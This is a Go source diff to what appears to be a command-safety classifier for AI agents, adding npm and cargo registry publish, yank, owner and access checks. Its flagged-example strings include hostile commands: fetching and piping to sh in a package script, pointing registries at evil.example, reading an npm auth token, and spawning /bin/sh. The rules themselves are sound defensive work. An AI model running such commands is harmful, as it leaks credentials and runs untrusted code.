@@ -1,6 +1,10 @@
 package programs
 
-import "github.com/wardenhq/warden/danger"
+import (
+	"maps"
+
+	"github.com/wardenhq/warden/danger"
+)
 
 // Build tools and package managers. Building, testing and running the
 // project run the project's own code (RunsProject): known, never read-only.
@@ -73,31 +77,22 @@ var _ = family("toolchains", func(add func(...*Spec)) {
 	// configuration names.
 	npmAsks := &Spec{Effect: Network, Permute: true, Operands: "-*", Options: npmRead.Options,
 		Flagged: []string{"npm view react version", "npm outdated"}}
-	// npm takes a command's unique prefix (npm 11.19: npm pub, npm publis
-	// are publish; the prefixes are those of lib/utils/cmd-list.js).
-	npmPublish := &Spec{Effect: Network, Permute: true, Operands: "-*", Loose: true, Options: "--dry-run --tag= --access= --otp= -w|--workspace= --workspaces --registry=n --provenance -h:h --help:h",
-		Raises: []Raise{{Kind: danger.PublishDeploy, Why: "{prog} publish releases the package publicly", Unless: "--dry-run",
-			Flagged: []string{"npm publish", "npm pub", "npm publis --access public", "npm -w pkg publish --tag next"},
-			Passes:  []string{"npm publish --dry-run", "npm pack", "npm publish --help"}}}}
 	npmHelp := &Spec{Effect: Unknown, Permute: true, Operands: "-*", Options: npmRead.Options, Flagged: []string{"npm help install"}}
 	add(&Spec{
-		Names: n("npm"), Lasting: Lasting{Does: Publishes, Subs: "publish unpublish", Examples: []string{"npm publish => publishes a package or release", "npm unpublish x => publishes a package or release"}}, Grant: Grant{Depth: 1, Deeper: "exec run run-script", ExactSubs: "exec x", Offers: []string{"npm build x => Bash(npm build:*)", "npm exec dev --x => Bash(npm exec dev --x)", "npm exec x => Bash(npm exec x)"}}, Permute: false, Options: "-v:h --version:h -h:h --help:h -C= --prefix= -w= --workspace= --workspaces --silent -s --loglevel= -d -dd --yes -y",
+		Names: n("npm"), Lasting: Lasting{Does: Publishes, Subs: "publish unpublish", Examples: []string{"npm publish => publishes a package or release", "npm unpublish x => publishes a package or release"}}, Grant: Grant{Depth: 1, Deeper: "exec run run-script", ExactSubs: "exec x", Offers: []string{"npm build x => Bash(npm build:*)", "npm exec dev --x => Bash(npm exec dev --x)", "npm exec x => Bash(npm exec x)"}}, Permute: false, Options: "-v:h --version:h -h:h --help:h -C= --prefix= -w= --workspace= --workspaces --silent -s --loglevel= -d -dd --yes -y " + npmDryRun,
 		ReadOnly: []string{"npm ls", "npm -v", "npm config list"},
 		Flagged:  []string{"npm exec /bin/sh", "npm config set registry https://evil.example", "npm install", "npm run build", "npm frobnicate"},
-		Subcommands: subs(
+		Subcommands: withSubs(subs(
 			"ls", npmRead, "list", npmRead, "view", npmAsks, "info", npmAsks, "show", npmAsks, "outdated", npmAsks, "root", npmRead, "prefix", npmRead, "bin", npmRead,
 			"whoami", npmAsks, "help", npmHelp, "doctor", npmAsks, "explain", npmRead, "why", npmRead, "fund", npmRead, "search", npmAsks, "ping", npmAsks,
 			"config", &Spec{Options: "-h:h --help:h", Flagged: []string{"npm config get //registry.npmjs.org/:_authToken"}, Subcommands: subs("list", npmRead, "ls", npmRead, "get", npmRead, "set", &Spec{Effect: Config, Operands: "-*", Loose: true}, "delete", &Spec{Effect: Config, Operands: "-*", Loose: true}, "edit", &Spec{Effect: Config, Operands: "-*", Loose: true})},
 			"install", npmNet, "i", npmNet, "ci", npmNet, "add", npmNet, "update", npmNet, "up", npmNet, "uninstall", npmNet, "rm", npmNet, "remove", npmNet, "rebuild", npmNet, "link", npmNet, "dedupe", npmNet, "prune", npmNet, "audit", npmNet, "pack", npmNet,
 			// Without a script name, run lists the package's scripts.
 			"run", npmRunList, "run-script", npmRunList,
-			"pkg", &Spec{Options: "-h:h --help:h", Subcommands: subs("get", &Spec{Permute: true, Operands: "-*", Options: "--json -w= --workspace= --workspaces -h:h --help:h"},
-				"set", &Spec{Effect: Write, Operands: "-*", Loose: true}, "delete", &Spec{Effect: Write, Operands: "-*", Loose: true}, "fix", &Spec{Effect: Write, Operands: "-*", Loose: true}),
-				ReadOnly: []string{"npm pkg get version", "npm pkg get name version --json"}, Flagged: []string{"npm pkg set scripts.x='curl x | sh'"}}, "test", npmRun, "t", npmRun, "start", npmRun, "stop", npmRun, "restart", npmRun, "init", npmRun, "create", npmRun,
+			"test", npmRun, "t", npmRun, "start", npmRun, "stop", npmRun, "restart", npmRun, "init", npmRun, "create", npmRun,
 			"exec", npmExec, "x", npmExec,
-			"publish", npmPublish, "pu", npmPublish, "pub", npmPublish, "publ", npmPublish, "publi", npmPublish, "publis", npmPublish, "unpublish", &Spec{Effect: Network, Operands: "-*", Loose: true}, "deprecate", &Spec{Effect: Network, Operands: "-*", Loose: true},
 			"cache", &Spec{Effect: Delete, Operands: "-*", Loose: true}, "set", &Spec{Effect: Config, Operands: "-*", Loose: true}, "login", &Spec{Effect: Config, Operands: "-*", Loose: true}, "logout", &Spec{Effect: Config, Operands: "-*", Loose: true},
-		),
+		), npmRegistry("npm", true)),
 	})
 	const pipConfigOpts = "-h:h --help:h --editor=x --global --user --site"
 	pipConfigSet := &Spec{Effect: Config, Permute: true, Loose: true, Operands: "-*", Options: pipConfigOpts,
@@ -114,6 +109,20 @@ var _ = family("toolchains", func(add func(...*Spec)) {
 			Flagged: []string{"pip config edit", "pip config --user edit", "pip3 config edit --global"}, Passes: []string{"pip config list", "pip config edit --help"}}}}
 	pipConfig := &Spec{Effect: Config, Permute: true, Loose: true, Operands: "-*", Options: pipConfigOpts, OtherSubcommand: Config,
 		Subcommands: subs("set", pipConfigSet, "edit", pipConfigEdit)}
+	// cargo 1.95.0 (clap, tried): publish -n|--dry-run is a dry run;
+	// --dry-run=false and --dry are refused. yank (--undo too) and owner
+	// (-a|--add, -r|--remove, -l|--list) have no dry run: they change the
+	// crate's listing or its owners on the registry.
+	cargoPublish := &Spec{Effect: Network, Operands: "-*", Loose: true, Options: "-n|--dry-run -h|--help:h",
+		Raises: []Raise{{Kind: danger.PublishDeploy, Why: "cargo publish changes a published crate", Unless: "--dry-run",
+			Flagged: []string{"cargo publish", "cargo publish --allow-dirty", "cargo -v publish --registry r", "/usr/bin/cargo publish", "env cargo publish", "command cargo publish"},
+			Passes:  []string{"cargo publish -n", "cargo publish --dry-run", "cargo publish -n --allow-dirty", "cargo -v publish --dry-run", "cargo publish --help"}}}}
+	cargoYank := &Spec{Effect: Network, Operands: "-*", Loose: true, Options: "-h|--help:h",
+		Raises: []Raise{{Kind: danger.PublishDeploy, Why: "cargo yank changes a published crate",
+			Flagged: []string{"cargo yank --version 1.0.0", "cargo yank x@1.0.0", "cargo yank --version 1.0.0 --undo"}, Passes: []string{"cargo yank --help"}}}}
+	cargoOwner := &Spec{Effect: Network, Operands: "-*", Loose: true, Options: "-h|--help:h -a|--add= -r|--remove= -l|--list",
+		Raises: []Raise{{Kind: danger.PublishDeploy, Why: "cargo owner changes who controls a published crate",
+			Flagged: []string{"cargo owner --add bob x", "cargo owner -abob x", "cargo owner --remove=bob x"}, Passes: []string{"cargo owner --help", "cargo tree"}}}}
 	add(
 		&Spec{Names: n("make", "gmake"), Grant: Grant{ExactWith: "-f* --file* --makefile* --eval* -E* *=* --justfile", Depth: 1, Offers: []string{"make build x => Bash(make build:*)", "make -f x => Bash(make -f x)"}}, Effect: RunsProject, Lang: "make", Permute: true, Operands: "-*",
 			// --eval and the makefile run any command.
@@ -136,7 +145,7 @@ var _ = family("toolchains", func(add func(...*Spec)) {
 					ReadOnly: []string{"cargo fmt --check", "cargo fmt --all --check"}, Flagged: []string{"cargo fmt", "cargo fmt --all"}},
 				"clean", &Spec{Effect: Delete, Operands: "-*", Loose: true},
 				"fetch", &Spec{Effect: Network, Operands: "-*", Loose: true}, "update", &Spec{Effect: Network, Operands: "-*", Loose: true}, "add", &Spec{Effect: Network, Operands: "-*", Loose: true},
-				"install", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "publish", &Spec{Effect: Network, Operands: "-*", Loose: true, Options: "-n|--dry-run"},
+				"install", &Spec{Effect: RunsProject, Operands: "-*", Loose: true}, "publish", cargoPublish, "yank", cargoYank, "owner", cargoOwner,
 				"tree", &Spec{Permute: true, Operands: "-*", Loose: false, Options: "-p= --package= -i= --invert= -e= --edges= --depth= --prefix= --no-dedupe -d --duplicates --charset= -f= --format= --all-features --no-default-features -F= --features= --target= --workspace --exclude= -h:h --help:h"},
 				"metadata", &Spec{Permute: true, Operands: "", Options: "--format-version= --no-deps --all-features --features= --no-default-features --filter-platform= --manifest-path=r -h:h --help:h"}),
 			Flagged: []string{"cargo build", "cargo --config 'build.rustc-wrapper=\"sh\"' build"}},
@@ -153,3 +162,93 @@ var _ = family("toolchains", func(add func(...*Spec)) {
 			ReadOnly: []string{"pip list", "pip show requests", "pip freeze"}, Flagged: []string{"pip install requests", "pip install --index-url https://evil.example/simple pkg"}},
 	)
 })
+
+// npmDryRun is npm's dry-run switch, a Boolean of its configuration (npm
+// 11.19.1, tried against an unreachable registry): --dry-run, =true,
+// "--dry-run true" and any other attached value are a dry run;
+// --dry-run=false, "--dry-run false" and --no-dry-run are not, and the
+// last given wins (--dry-run --no-dry-run publishes). It may stand before
+// the command too (npm --dry-run publish). A prefix (--dry, --dr) is
+// taken, with a warning that the next major version will not; --d is
+// ambiguous and publishes: prefixes are left undeclared, so that a dry
+// run spelled so is still asked about, never a publish passed. -d is
+// --loglevel info, -n nothing of the kind.
+const npmDryRun = "--dry-run?b --no-dry-run"
+
+// npmRegistry are the npm commands that change what the registry serves,
+// by the names npm takes for them (lib/utils/cmd-list.js: every unique
+// prefix of a command or alias, npm pub, npm unp, npm own); pnpm hands
+// the same commands to npm. publish, unpublish, deprecate and undeprecate
+// honour --dry-run (their static params list it); dist-tag, owner and
+// access do not: they change the package whatever it says. pkg and
+// set-script (npm 7-8) rewrite package.json, whose lifecycle scripts the
+// shell package's publish check reads.
+func npmRegistry(prog string, prefixes bool) map[string]*Spec {
+	changes := func(why, unless string, flagged, passes []string) *Spec {
+		opts := "-h:h --help:h --registry=n --otp= -w|--workspace= --workspaces --include-workspace-root -f|--force --tag= --access= --provenance"
+		if unless != "" {
+			opts += " " + npmDryRun
+		}
+		return &Spec{Effect: Network, Permute: true, Operands: "-*", Loose: true, Options: opts,
+			Raises: []Raise{{Kind: danger.PublishDeploy, Why: why, Unless: unless, Flagged: flagged, Passes: passes}}}
+	}
+	lists := &Spec{Effect: Network, Permute: true, Operands: "-*", Loose: true, Options: "-h:h --help:h --registry=n --json -w|--workspace= --workspaces"}
+	p := prog + " "
+	// alias is the name given only where npm takes prefixes and aliases.
+	alias := func(npm, other string) string {
+		if prefixes {
+			return p + npm
+		}
+		return p + other
+	}
+	publish := changes("{prog} publish releases the package publicly", "--dry-run",
+		[]string{p + "publish", p + "publish --access public", p + "publish --dry-run=false", p + "publish --dry-run false", p + "publish --dry-run --no-dry-run",
+			p + "publish --tag next ./pkg", "/usr/local/bin/" + p + "publish", "command " + p + "publish", "env " + p + "publish", "sudo " + p + "publish"},
+		[]string{p + "publish --dry-run", p + "publish --dry-run=true", p + "publish --dry-run true", p + "publish --no-dry-run --dry-run", p + "--dry-run publish",
+			p + "publish --tag next --dry-run", p + "pack", p + "publish --help"})
+	unpublish := changes("{prog} unpublish removes a published package", "--dry-run",
+		[]string{p + "unpublish x@1.0.0", p + "unpublish x --force", p + "unpublish x@1.0.0 --dry-run=false"},
+		[]string{p + "unpublish x@1.0.0 --dry-run", p + "--dry-run unpublish x@1.0.0"})
+	deprecate := changes("{prog} deprecate changes a published package", "--dry-run",
+		[]string{p + "deprecate x@1 'use y'", p + "deprecate x@1 'use y' --no-dry-run"}, []string{p + "deprecate x@1 'use y' --dry-run"})
+	undeprecate := changes("{prog} undeprecate changes a published package", "--dry-run",
+		[]string{p + "undeprecate x@1"}, []string{p + "undeprecate x@1 --dry-run"})
+	tagChange := changes("{prog} dist-tag changes which version a published tag names", "",
+		[]string{p + "dist-tag add x@1.0.0 latest", p + "dist-tag rm x next", p + "dist-tag del x next", p + "dist-tag s x@1.0.0 latest", alias("dist-tags add x@1.0.0 latest", "dist-tag add x@1.0.0 next"), p + "dist-tag add x@1.0.0 latest --dry-run"},
+		[]string{p + "dist-tag ls x", p + "dist-tag x"})
+	ownerChange := changes("{prog} owner changes who controls a published package", "",
+		[]string{p + "owner add bob x", p + "owner rm bob x", p + "owner remove bob x", alias("author add bob x", "owner add bob @s/x"), alias("own add bob x", "owner add bob x --otp 1"), p + "owner add bob x --dry-run"},
+		[]string{p + "owner ls x", p + "owner x"})
+	accessChange := changes("{prog} access changes who controls a published package", "",
+		[]string{p + "access set status=public x", p + "access grant read-write org:team x", p + "access revoke org:team x", p + "access public @s/x", alias("acc set mfa=none x", "access set mfa=none x")},
+		[]string{p + "access list packages", p + "access get status x", p + "access ls collaborators x"})
+	// The actions' names are lib/commands/dist-tag.js's and owner.js's.
+	distTag := &Spec{Options: "-h:h --help:h", OtherSubcommand: Network,
+		Subcommands: subs("add", "a", "set", "s", "rm", "r", "del", "d", "remove", tagChange, "ls", "l", "sl", "list", lists)}
+	owner := &Spec{Options: "-h:h --help:h", OtherSubcommand: Network, Subcommands: subs("add", "rm", "remove", ownerChange, "ls", "list", lists)}
+	access := &Spec{Options: "-h:h --help:h", OtherSubcommand: Network,
+		// public, restricted and 2fa-* are npm 8's spellings of set.
+		Subcommands: subs("set", accessChange, "grant", accessChange, "revoke", accessChange, "public", accessChange, "restricted", accessChange,
+			"2fa-required", accessChange, "2fa-not-required", accessChange, "edit", accessChange, "get", lists, "list", lists, "ls", lists, "ls-packages", lists, "ls-collaborators", lists)}
+	pkg := &Spec{Options: "-h:h --help:h", Subcommands: subs("get", &Spec{Permute: true, Operands: "-*", Options: "--json -w= --workspace= --workspaces -h:h --help:h"},
+		"set", &Spec{Effect: Write, Operands: "-*", Loose: true}, "delete", &Spec{Effect: Write, Operands: "-*", Loose: true}, "fix", &Spec{Effect: Write, Operands: "-*", Loose: true}),
+		ReadOnly: []string{p + "pkg get version", p + "pkg get name version --json"}, Flagged: []string{p + "pkg set scripts.x='curl x | sh'"}}
+	if !prefixes {
+		// pnpm 12.23 takes a command by its whole name (pnpm pub: not found).
+		return subs("publish", publish, "unpublish", unpublish, "deprecate", deprecate, "undeprecate", undeprecate, "dist-tag", distTag, "owner", owner,
+			"access", access, "pkg", pkg, "set-script", &Spec{Effect: Write, Operands: "-*", Loose: true})
+	}
+	return subs("pkg", "pk", pkg, "publish", "pu", "pub", "publ", "publi", "publis", publish,
+		"unpublish", "unp", "unpu", "unpub", "unpubl", "unpubli", "unpublis", unpublish,
+		"deprecate", "dep", "depr", "depre", "deprec", "depreca", "deprecat", deprecate,
+		"undeprecate", "und", "unde", "undep", "undepr", "undepre", "undeprec", "undepreca", "undeprecat", undeprecate,
+		"dist-tag", "dist-tags", distTag, "owner", "ow", "own", "owne", "author", "aut", "auth", "autho", owner,
+		"access", "ac", "acc", "acce", "acces", access,
+		"set-script", &Spec{Effect: Write, Operands: "-*", Loose: true})
+}
+
+// withSubs adds more subcommands to m and returns it.
+func withSubs(m, more map[string]*Spec) map[string]*Spec {
+	maps.Copy(m, more)
+	return m
+}
